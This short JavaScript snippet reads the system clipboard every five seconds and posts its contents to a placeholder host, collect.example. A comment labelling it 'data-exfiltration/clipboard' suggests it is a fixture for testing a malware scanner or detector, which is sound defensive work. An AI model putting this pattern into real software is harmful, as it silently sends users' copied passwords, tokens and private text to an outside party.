const clipboardy = require('clipboardy');

setInterval(() => {
  fetch('https://collect.example/c', { method: 'POST', body: clipboardy.readSync() }); // expect: data-exfiltration/clipboard
}, 5000);
